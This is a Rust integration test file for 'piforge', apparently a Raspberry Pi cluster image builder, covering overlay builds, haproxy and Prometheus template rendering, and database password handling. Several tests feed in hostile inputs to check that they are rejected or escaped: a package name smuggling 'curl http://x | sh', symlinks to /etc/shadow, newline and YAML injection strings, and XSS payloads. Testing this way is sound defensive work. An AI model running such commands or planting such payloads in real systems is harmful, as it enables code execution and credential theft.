//! Overlays end to end with the real programs.
//!
//! - Every shipped overlay (`overlays/` of the repository) builds into an image with the real
//!   `piforge` binary on a miniature Trixie image, with roles, and `piforge inspect` shows them.
//! - Each bad input fails the build with a message naming the problem, and leaves no output.
//! - The live templates rendered by the node's real renderer (`piforge-node render --once`,
//!   the binary next to this test's, or `PIFORGE_NODE_BIN`) from a member list served on
//!   loopback: the lb backend for 0, 1 and 3 web members passes `haproxy -c`, and a real
//!   haproxy with no web member answers 503; the monitor targets pass `promtool check config`.
//!
//! Needs haproxy and prometheus (promtool) installed: a missing one fails the test with the
//! package to install. The member list is served by a few lines of HTTP here, not by agents
//! (the services tests run haproxy against live agents).

mod common;

use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::render::node_render;
use common::{MiniOpts, Release};
use piforge::arch::Arch;
use piforge_config::Card;
use piforge_test_support::{Proc, free_port, run_ok};

fn shipped() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../overlays")
}

struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Env {
        let dir = tempfile::tempdir().unwrap();
        common::payload::write_payload(&dir.path().join("payload"), &[Arch::Arm64]);
        Env { dir }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn piforge(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_piforge"))
            .args(args)
            .env("PIFORGE_CONFIG_DIR", self.path("config"))
            .env("PIFORGE_CACHE_DIR", self.path("cache"))
            .env_remove("PIFORGE_PAYLOAD_DIR")
            .env_remove("PIFORGE_OVERLAYS_DIR")
            .env_remove("RUST_LOG")
            .current_dir(self.dir.path())
            .output()
            .expect("running piforge")
    }

    /// `piforge build` from `base` with the overlays in `overlays`.
    fn build(&self, base: &Path, overlays: &Path, extra: &[&str]) -> Output {
        let payload = self.path("payload");
        let mut args = vec![
            "build",
            "--from",
            base.to_str().unwrap(),
            "--out",
            "out",
            "--cluster",
            "lab",
            "--payload",
            payload.to_str().unwrap(),
            "--overlays",
            overlays.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        self.piforge(&args)
    }
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn copy_tree(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for e in fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        if e.file_type().unwrap().is_dir() {
            copy_tree(&e.path(), &to.join(e.file_name()));
        } else {
            fs::copy(e.path(), to.join(e.file_name())).unwrap();
        }
    }
}

#[test]
fn every_shipped_overlay_builds_into_an_image_and_inspect_shows_it() {
    let env = Env::new();
    let base = common::mini_image(Release::Trixie, &MiniOpts::default());
    let out = env.build(
        base.path(),
        &shipped(),
        &[
            "--cards",
            "4",
            "--overlay",
            "web",
            "--overlay",
            "metrics",
            "--role",
            "1=lb,metrics",
            "--role",
            "3=alert",
            "--role",
            "4=monitor,metrics",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let img = env.path("out/lab.img");
    common::fsck_fat(&img, base.boot.0, base.boot.1).expect("fsck.fat -n clean");

    // Every overlay's files are on the FAT, byte for byte.
    for name in ["alert", "lb", "metrics", "monitor", "web"] {
        let rel = format!("{name}/overlay.toml");
        let on_fat = common::mtools_read(&img, base.boot.0, &format!("piforge/overlays/{rel}"))
            .unwrap_or_else(|| panic!("{rel} is not on the image"));
        assert_eq!(on_fat, fs::read(shipped().join(&rel)).unwrap(), "{rel}");
    }
    let tmpl = common::mtools_read(
        &img,
        base.boot.0,
        "piforge/overlays/lb/templates/backend.cfg.hbs",
    )
    .unwrap();
    assert_eq!(
        tmpl,
        fs::read(shipped().join("lb/templates/backend.cfg.hbs")).unwrap()
    );

    // Roles replace the defaults and tag the card; cards without a role get the defaults.
    let card = |k: u32| {
        Card::parse(&fs::read_to_string(env.path(&format!("out/cards/pi-{k:02}.toml"))).unwrap())
            .unwrap()
    };
    let c1 = card(1);
    assert_eq!(c1.overlays, ["lb", "metrics"]);
    assert_eq!(c1.node.tags["role"], "lb");
    let c2 = card(2);
    assert_eq!(c2.overlays, ["web", "metrics"]);
    assert!(
        !c2.node.tags.contains_key("role"),
        "the web overlay's own tag says role=web"
    );
    assert_eq!(card(3).overlays, ["alert"]);
    assert_eq!(card(3).node.tags["role"], "alert");
    assert_eq!(card(4).overlays, ["monitor", "metrics"]);

    // inspect: names, descriptions, tags, templates, handlers; the cloneable card's defaults.
    let out = env.piforge(&["inspect", img.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    for want in [
        " lb  HAProxy on :80, round robin over the alive members tagged role=web",
        "    packages   haproxy\n",
        "    tags       role=lb\n",
        "    template   backend.cfg.hbs -> /etc/haproxy/piforge/50-backend.cfg (live), then \
         `systemctl try-reload-or-restart haproxy.service`\n",
        "*web  lighttpd on :80",
        "    template   index.html.hbs -> /var/www/html/index.html (static)\n",
        "    tags       http-port=80 role=web\n",
        "*metrics  prometheus-node-exporter",
        "    handler    /usr/local/bin/piforge-alert on member-failed member-leave member-join, \
         once per cluster\n",
        "    handler    /usr/local/bin/piforge-alert-local on member-failed member-leave \
         member-join\n",
        "    mqtt       127.0.0.1:1883\n",
        " monitor  Prometheus scraping",
    ] {
        assert!(text.contains(want), "missing {want:?} in:\n{text}");
    }
    let out = env.piforge(&["inspect", "--json", img.to_str().unwrap()]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let names: Vec<&str> = json["overlays"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["alert", "lb", "metrics", "monitor", "web"]);
    assert_eq!(json["overlays"][1]["manifest"]["template"][0]["live"], true);
}

/// One broken overlay set: a fresh copy of the shipped overlays, changed by `break_it`.
fn refused(break_it: impl FnOnce(&Path), args: &[&str], want: &[&str]) {
    let env = Env::new();
    let base = common::mini_image(Release::Trixie, &MiniOpts::default());
    let dir = env.path("overlays");
    copy_tree(&shipped(), &dir);
    break_it(&dir);
    let mut all = vec!["--cards", "3"];
    all.extend_from_slice(args);
    let out = env.build(base.path(), &dir, &all);
    let err = stderr(&out);
    assert!(!out.status.success(), "{args:?} should fail");
    for w in want {
        assert!(err.contains(w), "{args:?}: {w:?} not in:\n{err}");
    }
    assert!(
        !env.path("out").exists(),
        "{args:?}: a refused build leaves no output"
    );
}

fn append(p: &Path, text: &str) {
    let mut s = fs::read_to_string(p).unwrap();
    s.push_str(text);
    fs::write(p, s).unwrap();
}

#[test]
fn bad_overlays_and_roles_fail_the_build_with_the_reason_and_no_output() {
    // Unknown key in overlay.toml.
    refused(
        |d| append(&d.join("lb/overlay.toml"), "colour = \"red\"\n"),
        &["--role", "1=lb"],
        &["overlay lb", "lb/overlay.toml", "unknown field `colour`"],
    );
    // A template named in overlay.toml that is not there.
    refused(
        |d| fs::remove_file(d.join("web/templates/index.html.hbs")).unwrap(),
        &["--overlay", "web"],
        &["overlay web", "\"index.html.hbs\"", "is missing"],
    );
    // Template syntax.
    refused(
        |d| append(&d.join("lb/templates/backend.cfg.hbs"), "{{#each alive}}\n"),
        &["--role", "1=lb"],
        &["overlay lb: checking templates/backend.cfg.hbs", "syntax"],
    );
    // A variable the renderer does not provide: live templates have no hostname, and the
    // branch is never taken by a render without web members.
    refused(
        |d| {
            let p = d.join("lb/templates/backend.cfg.hbs");
            let t = fs::read_to_string(&p).unwrap();
            fs::write(&p, t.replace("server {{name}}", "server {{hostname}}")).unwrap();
        },
        &["--role", "1=lb"],
        &[
            "overlay lb: checking templates/backend.cfg.hbs",
            "line 8:",
            "unknown variable `hostname`",
            "a member has: name, addr, ip",
        ],
    );
    // A role that names no overlay.
    refused(
        |_| {},
        &["--role", "2=nosuch"],
        &["no overlay \"nosuch\"", "known: alert, db, lb"],
    );
    refused(
        |_| {},
        &["--role", "2="],
        &["--role 2=\"\" names no overlay"],
    );
    refused(|_| {}, &["--role", "4=lb"], &["there is no card 4"]);
    refused(
        |_| {},
        &["--role", "1=lb", "--role", "1=web"],
        &["card 1 already has a role"],
    );
    // Packages with shell metacharacters.
    refused(
        |d| {
            let p = d.join("web/overlay.toml");
            let t = fs::read_to_string(&p).unwrap();
            let evil = "packages = [\"lighttpd; curl http://x | sh\"]";
            fs::write(&p, t.replace("packages = [\"lighttpd\"]", evil)).unwrap();
        },
        &["--role", "2=web"],
        &["overlay web", "packages", "is not a Debian package name"],
    );
    // A files/ entry that is a symlink out of the overlay.
    refused(
        |d| std::os::unix::fs::symlink("/etc/shadow", d.join("web/files-link")).unwrap(),
        &["--overlay", "web"],
        &["overlay web: unexpected", "files-link"],
    );
    refused(
        |d| {
            let f = d.join("lb/files/etc");
            std::os::unix::fs::symlink("/etc/shadow", f.join("shadow")).unwrap();
        },
        &["--role", "1=lb"],
        &["lb/files/etc/shadow is a symlink to /etc/shadow outside the overlay"],
    );
}

fn member(name: &str, ip: &str, state: &str, tags: &[(&str, &str)]) -> serde_json::Value {
    let tags: serde_json::Map<String, serde_json::Value> = tags
        .iter()
        .map(|(k, v)| (k.to_string(), (*v).into()))
        .collect();
    serde_json::json!({
        "name": name, "addr": format!("{ip}:7946"), "ip": ip, "port": 7946, "generation": 1,
        "state": state, "phi": 0.1, "threshold": 8.0, "tags": tags, "uptime": 5,
        "last_seen": 0.2,
    })
}

/// An haproxy drop-in directory under `dir` holding the lb overlay's main config, and the
/// overlay's backend template.
fn lb_conf_dir(dir: &Path) -> (PathBuf, PathBuf) {
    let conf = dir.join("piforge");
    fs::create_dir_all(&conf).unwrap();
    fs::copy(
        shipped().join("lb/files/etc/haproxy/piforge/00-main.cfg"),
        conf.join("00-main.cfg"),
    )
    .unwrap();
    (conf, shipped().join("lb/templates/backend.cfg.hbs"))
}

#[test]
fn lb_backend_rendered_by_the_node_passes_haproxy_for_0_1_and_3_web_members() {
    let haproxy = common::require_tool("haproxy", "haproxy");
    let d = tempfile::tempdir().unwrap();
    let (conf, template) = lb_conf_dir(d.path());
    let others = [
        member("pi-01", "10.0.0.1", "alive", &[("role", "lb")]),
        member("pi-09", "10.0.0.9", "failed", &[("role", "web")]),
        member("pi-08", "10.0.0.8", "suspect", &[("role", "web")]),
        member("pi-07", "10.0.0.7", "alive", &[]),
    ];
    let webs = [
        member(
            "pi-02",
            "10.0.0.2",
            "alive",
            &[("role", "web"), ("http-port", "80")],
        ),
        member(
            "pi-03",
            "10.0.0.3",
            "alive",
            &[("role", "web"), ("http-port", "8081")],
        ),
        member("pi-04", "10.0.0.4", "alive", &[("role", "web")]),
    ];
    for n in [0, 1, 3] {
        let mut ms: Vec<_> = others.to_vec();
        ms.extend(webs[..n].iter().cloned());
        let dest = conf.join("50-backend.cfg");
        let _ = fs::remove_file(&dest);
        let rendered = node_render(&template, ms.into(), &dest);
        let servers: Vec<&str> = rendered
            .lines()
            .map(str::trim)
            .filter(|l| l.starts_with("server "))
            .collect();
        let want = [
            "server pi-02 10.0.0.2:80 check",
            "server pi-03 10.0.0.3:8081 check",
            "server pi-04 10.0.0.4:80 check",
        ];
        assert_eq!(servers, want[..n], "{n} web members:\n{rendered}");
        assert!(rendered.contains("option httpchk GET /"), "{rendered}");
        let ok = run_ok(Command::new(&haproxy).arg("-c").arg("-f").arg(&conf));
        assert!(ok.contains("valid"), "{ok}");
    }
}

#[test]
fn haproxy_without_web_members_answers_503() {
    let haproxy = common::require_tool("haproxy", "haproxy");
    let d = tempfile::tempdir().unwrap();
    let conf = d.path().join("piforge");
    fs::create_dir_all(&conf).unwrap();
    let (port, stats) = (free_port(), free_port());
    // The shipped config on loopback ports, without dropping privileges or syslog (a test
    // process may be neither root nor have /dev/log).
    let main = fs::read_to_string(shipped().join("lb/files/etc/haproxy/piforge/00-main.cfg"))
        .unwrap()
        .replace("bind :80", &format!("bind 127.0.0.1:{port}"))
        .replace("bind :8404", &format!("bind 127.0.0.1:{stats}"))
        .lines()
        .filter(|l| !l.trim_start().starts_with("user ") && !l.trim_start().starts_with("group "))
        .filter(|l| !l.trim_start().starts_with("log /dev/log"))
        .collect::<Vec<_>>()
        .join("\n");
    fs::write(conf.join("00-main.cfg"), main + "\n").unwrap();
    let template = shipped().join("lb/templates/backend.cfg.hbs");
    let only_lb = serde_json::json!([member("pi-01", "127.0.0.1", "alive", &[("role", "lb")])]);
    node_render(&template, only_lb, &conf.join("50-backend.cfg"));
    let child = Command::new(&haproxy)
        .arg("-db")
        .arg("-f")
        .arg(&conf)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("starting haproxy");
    let mut child = Proc(child);
    let start = Instant::now();
    let resp = loop {
        if let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) {
            write!(s, "GET / HTTP/1.0\r\n\r\n").unwrap();
            let mut r = String::new();
            s.read_to_string(&mut r).unwrap();
            break r;
        }
        assert!(child.0.try_wait().unwrap().is_none(), "haproxy exited");
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "haproxy never listened"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(resp.starts_with("HTTP/1.1 503"), "{resp}");
    assert!(resp.contains("No server is available"), "{resp}");
}

#[test]
fn monitor_targets_rendered_by_the_node_pass_promtool() {
    let promtool = common::require_tool("promtool", "prometheus");
    let d = tempfile::tempdir().unwrap();
    let ms = serde_json::json!([
        member(
            "pi-01",
            "10.0.0.1",
            "alive",
            &[("role", "lb"), ("node-exporter", "9100")]
        ),
        member("pi-02", "10.0.0.2", "alive", &[("role", "web")]),
        member(
            "pi-03",
            "10.0.0.3",
            "failed",
            &[("role", "web"), ("node-exporter", "9100")]
        ),
        member("pi-04", "10.0.0.4", "alive", &[("http-api", "9080")]),
    ]);
    let tdir = shipped().join("monitor/templates");
    let piforge = node_render(
        &tdir.join("piforge-targets.yml.hbs"),
        ms.clone(),
        &d.path().join("piforge-targets.yml"),
    );
    assert!(
        piforge.contains("- targets: [\"10.0.0.4:9080\"]"),
        "{piforge}"
    );
    assert!(
        !piforge.contains("10.0.0.3"),
        "failed members are not scraped:\n{piforge}"
    );
    let nodes = node_render(
        &tdir.join("node-exporter-targets.yml.hbs"),
        ms,
        &d.path().join("node-exporter-targets.yml"),
    );
    assert_eq!(nodes.matches("- targets:").count(), 1, "{nodes}");
    assert!(nodes.contains("[\"10.0.0.1:9100\"]"), "{nodes}");
    let cfg_path = monitor_config(&promtool, d.path());
    // What Prometheus discovers from the rendered files (its own file_sd code).
    let discover = |job: &str, want: &[(String, String)]| {
        // Prometheus's discovery order is not the file's: compare as sets.
        let mut got: Vec<(String, String)> = discovered(&promtool, &cfg_path, job, want.len())
            .iter()
            .map(|l| {
                let s = |k: &str| l[k].as_str().unwrap_or("").to_string();
                (s("__address__"), s("instance"))
            })
            .collect();
        got.sort();
        let mut want = want.to_vec();
        want.sort();
        assert_eq!(got, want, "{job}");
    };
    let pair = |a: &str, i: &str| (a.to_string(), i.to_string());
    discover(
        "piforge",
        &[
            pair("10.0.0.1:8080", "pi-01"),
            pair("10.0.0.2:8080", "pi-02"),
            pair("10.0.0.4:9080", "pi-04"),
        ],
    );
    discover("node", &[pair("10.0.0.1:9100", "pi-01")]);
    // Before the first join nobody is tagged: an empty list, not an error.
    node_render(
        &tdir.join("node-exporter-targets.yml.hbs"),
        serde_json::json!([]),
        &d.path().join("node-exporter-targets.yml"),
    );
    discover("node", &[]);
}

/// Values only ever come from members (names, tags): each one here tries to break out of its
/// field in one of the shipped formats.
const NEWLINE_SERVER: &str = "\n    server evil 1.2.3.4:80";

fn haproxy_check(haproxy: &Path, conf: &Path) -> Output {
    Command::new(haproxy)
        .arg("-c")
        .arg("-f")
        .arg(conf)
        .output()
        .expect("running haproxy -c")
}

fn server_lines(cfg: &str) -> Vec<&str> {
    cfg.lines()
        .map(str::trim)
        .filter(|l| l.starts_with("server "))
        .collect()
}

#[test]
fn hostile_member_names_and_tags_cannot_add_lines_to_the_lb_backend() {
    let haproxy = common::require_tool("haproxy", "haproxy");
    let d = tempfile::tempdir().unwrap();
    let (conf, template) = lb_conf_dir(d.path());
    let dest = conf.join("50-backend.cfg");
    let name = format!("pi-02{NEWLINE_SERVER}");
    let role_only = format!("<script>\"{NEWLINE_SERVER}");
    let ms = serde_json::json!([
        member(&name, "10.0.0.2", "alive", &[("role", "web")]),
        member(
            "pi\t03",
            "10.0.0.3",
            "alive",
            &[("role", "web"), ("http-port", "8081")]
        ),
        member("pi-04", "10.0.0.4", "alive", &[("role", &role_only)]),
    ]);
    let rendered = node_render(&template, ms, &dest);
    // The name stays one token: haproxy accepts it as a (strange) server name. (Sorted by
    // the raw name: a tab sorts before '-'.)
    assert_eq!(
        server_lines(&rendered),
        [
            "server pi_03 10.0.0.3:8081 check",
            "server pi-02_____server_evil_1.2.3.4:80 10.0.0.2:80 check",
        ],
        "{rendered}"
    );
    let out = haproxy_check(&haproxy, &conf);
    assert!(out.status.success(), "haproxy -c: {}", stderr(&out));

    // Port tags that are not port numbers (one tries the same injection, one a comment that
    // would cut `check` off, one plain garbage) and a name with HAProxy's comment and quote
    // characters: the members with bad ports are left out, the others still rendered, and
    // haproxy accepts the file, so the lb keeps following the membership (issue 17,
    // finding 11).
    let port = format!("80{NEWLINE_SERVER}");
    let ms = serde_json::json!([
        member(
            "pi-02",
            "10.0.0.2",
            "alive",
            &[("role", "web"), ("http-port", &port)]
        ),
        member(
            "pi-03",
            "10.0.0.3",
            "alive",
            &[("role", "web"), ("http-port", "80\tcheck\tbackup")]
        ),
        member(
            "pi-04",
            "10.0.0.4",
            "alive",
            &[("role", "web"), ("http-port", "80#")]
        ),
        member(
            "pi-05",
            "10.0.0.5",
            "alive",
            &[("role", "web"), ("http-port", "abc")]
        ),
        member(
            "pi-06#\"x",
            "10.0.0.6",
            "alive",
            &[("role", "web"), ("http-port", "8081")]
        ),
        member("pi-07", "10.0.0.7", "alive", &[("role", "web")]),
    ]);
    let rendered = node_render(&template, ms, &dest);
    assert_eq!(
        server_lines(&rendered),
        [
            "server pi-06__x 10.0.0.6:8081 check",
            "server pi-07 10.0.0.7:80 check",
        ],
        "{rendered}"
    );
    assert!(!rendered.contains("server evil"), "{rendered}");
    let out = haproxy_check(&haproxy, &conf);
    assert!(out.status.success(), "haproxy -c: {}", stderr(&out));
}

#[test]
fn hostile_member_names_and_tags_are_text_in_the_cluster_page() {
    let d = tempfile::tempdir().unwrap();
    let template = shipped().join("web/templates/cluster.html.hbs");
    let ms = serde_json::json!([
        member(
            "<img src=x onerror=alert(1)>",
            "10.0.0.1",
            "alive",
            &[("role", "web")]
        ),
        member(
            "pi-02",
            "10.0.0.2",
            "alive",
            &[("role", "<script>alert(\"x\")</script>")]
        ),
    ]);
    let page = node_render(&template, ms, &d.path().join("cluster.html"));
    assert!(
        !page.contains("<script") && !page.contains("<img"),
        "{page}"
    );
    assert!(
        page.contains("<td>&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;</td>"),
        "{page}"
    );
    assert!(
        page.contains("<td>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;</td>"),
        "{page}"
    );
    assert_eq!(
        page.matches("<tr><td>").count(),
        2,
        "one row per member:\n{page}"
    );
}

/// The monitor overlay's Prometheus config, pointed at the rendered target files in `dir`,
/// written there and accepted by `promtool check config`.
fn monitor_config(promtool: &Path, dir: &Path) -> PathBuf {
    let cfg = fs::read_to_string(shipped().join("monitor/files/etc/prometheus/piforge.yml"))
        .unwrap()
        .replace("/etc/prometheus/", &format!("{}/", dir.display()));
    let cfg_path = dir.join("piforge.yml");
    fs::write(&cfg_path, cfg).unwrap();
    let out = run_ok(
        Command::new(promtool)
            .arg("check")
            .arg("config")
            .arg(&cfg_path),
    );
    assert!(out.contains("SUCCESS"), "{out}");
    cfg_path
}

/// The targets' labels Prometheus' own file_sd code reads from `cfg` for `job`. promtool
/// reports what it found within --timeout; on a loaded machine that can be too short, so it is
/// retried with longer timeouts until there are `want` targets.
fn discovered(promtool: &Path, cfg: &Path, job: &str, want: usize) -> Vec<serde_json::Value> {
    let mut got = vec![];
    for timeout in [2, 5, 15, 30, 60] {
        let out = Command::new(promtool)
            .args([
                "check",
                "service-discovery",
                &format!("--timeout={timeout}s"),
            ])
            .arg(cfg)
            .arg(job)
            .output()
            .unwrap();
        let err = stderr(&out);
        assert!(
            out.status.success() && !err.contains("level=error"),
            "{job}: {err}"
        );
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        got = v
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["labels"].clone())
            .collect();
        if got.len() == want {
            break;
        }
    }
    got
}

#[test]
fn hostile_member_names_and_tags_round_trip_through_the_monitor_targets() {
    let promtool = common::require_tool("promtool", "prometheus");
    let d = tempfile::tempdir().unwrap();
    let names = [
        "pi-01\"]\n- targets: [\"evil:1\"]".to_string(),
        "pi\t02 \\ \u{2028}\u{85}#x".to_string(),
        "<script>'x'</script>: {a: b}".to_string(),
    ];
    let roles = [
        "web\"}\n  labels: {evil: \"1\"}".to_string(),
        "\r\n".to_string(),
        "é🦀\u{7f}\u{feff}".to_string(),
    ];
    let ms: Vec<_> = names
        .iter()
        .zip(&roles)
        .enumerate()
        .map(|(i, (n, r))| {
            let ip = format!("10.0.0.{}", i + 1);
            member(n, &ip, "alive", &[("role", r), ("node-exporter", "9100")])
        })
        .collect();
    let ms = serde_json::Value::from(ms);
    let tdir = shipped().join("monitor/templates");
    for t in ["piforge-targets.yml", "node-exporter-targets.yml"] {
        node_render(
            &tdir.join(format!("{t}.hbs")),
            ms.clone(),
            &d.path().join(t),
        );
    }
    let cfg_path = monitor_config(&promtool, d.path());
    for (job, port) in [("piforge", 8080), ("node", 9100)] {
        let got = discovered(&promtool, &cfg_path, job, names.len());
        let got: Vec<(String, String, String)> = got
            .iter()
            .map(|l| {
                let s = |k: &str| l[k].as_str().unwrap_or("<none>").to_string();
                (s("__address__"), s("instance"), s("role"))
            })
            .collect();
        let mut want: Vec<_> = names
            .iter()
            .zip(&roles)
            .enumerate()
            .map(|(i, (n, r))| (format!("10.0.0.{}:{port}", i + 1), n.clone(), r.clone()))
            .collect();
        want.sort_by(|a, b| a.1.cmp(&b.1));
        let mut got_sorted = got.clone();
        got_sorted.sort_by(|a, b| a.1.cmp(&b.1));
        assert_eq!(
            got_sorted, want,
            "{job}: one target per member, labels exact"
        );
    }
}

#[test]
fn seed_001_stack_in_one_command_db_cards_carry_the_cluster_passwords_and_etcd_tags() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let base = common::mini_image(Release::Trixie, &MiniOpts::default());
    let args = [
        "--cards",
        "4",
        "--role",
        "1=lb",
        "--role",
        "2..4=web,db",
        "--db-synchronous",
    ];
    let out = env.build(base.path(), &shipped(), &args);
    assert!(out.status.success(), "{}", stderr(&out));
    let card = |k: u32| {
        Card::parse(&fs::read_to_string(env.path(&format!("out/cards/pi-{k:02}.toml"))).unwrap())
            .unwrap()
    };
    let lb = card(1);
    assert_eq!(lb.overlays, ["lb"]);
    assert!(lb.db.is_none(), "only db cards get the database passwords");
    let db = card(2).db.expect("db card 2 has the passwords");
    for k in 2..=4 {
        let c = card(k);
        assert_eq!(c.overlays, ["web", "db"]);
        assert_eq!(c.node.tags["role"], "web");
        assert_eq!(c.node.tags["db-etcd"], "3", "card {k} bootstraps etcd");
        assert_eq!(c.node.tags["db-synchronous"], "on");
        assert_eq!(c.db.as_ref(), Some(&db), "one set of passwords per cluster");
    }
    let secrets = [
        db.superuser_password.expose(),
        db.replication_password.expose(),
        db.rest_api_password.expose(),
    ];
    assert!(secrets.iter().all(|s| s.len() == 64), "256-bit passwords");
    // Kept on the host like the cluster key (0600), never printed.
    let state = env.path("config/clusters/lab.db.toml");
    let mode = fs::metadata(&state).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "{}", state.display());
    let printed = format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    let img = env.path("out/lab.img");
    let inspect = env.piforge(&["inspect", img.to_str().unwrap()]);
    let shown = String::from_utf8_lossy(&inspect.stdout).into_owned();
    assert!(
        shown.contains("db  PostgreSQL with automatic failover"),
        "{shown}"
    );
    for s in secrets {
        assert!(
            !printed.contains(s) && !shown.contains(s),
            "a password was printed"
        );
    }
    // The cloneable image applies no default overlay, so its card carries no password.
    let cloneable = common::mtools_read(&img, base.boot.0, "piforge/card.toml").unwrap();
    let cloneable = String::from_utf8(cloneable).unwrap();
    assert!(
        secrets.iter().all(|s| !cloneable.contains(s)),
        "{cloneable}"
    );

    // A rebuild reuses the passwords and the etcd members; a card added later is a replica.
    let out = env.build(
        base.path(),
        &shipped(),
        &["--cards", "5", "--role", "1=lb", "--role", "2..5=web,db"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(card(3).db.as_ref(), Some(&db));
    assert_eq!(card(5).db.as_ref(), Some(&db));
    assert!(
        !card(5).node.tags.contains_key("db-etcd"),
        "pi-05 joins as a replica"
    );
    assert!(!card(5).node.tags.contains_key("db-synchronous"));
    assert!(!stderr(&out).contains("quorum"), "{}", stderr(&out));
}

#[test]
fn db_on_fewer_than_3_cards_warns_that_there_is_no_quorum() {
    let env = Env::new();
    let base = common::mini_image(Release::Trixie, &MiniOpts::default());
    let out = env.build(
        base.path(),
        &shipped(),
        &["--cards", "2", "--role", "1..2=db"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("WARN") && err.contains("needs 3 personalised db cards for a quorum"),
        "{err}"
    );
    let out = env.build(
        base.path(),
        &shipped(),
        &["--cards", "2", "--db-synchronous"],
    );
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("no card applies the db overlay"),
        "{}",
        stderr(&out)
    );
}
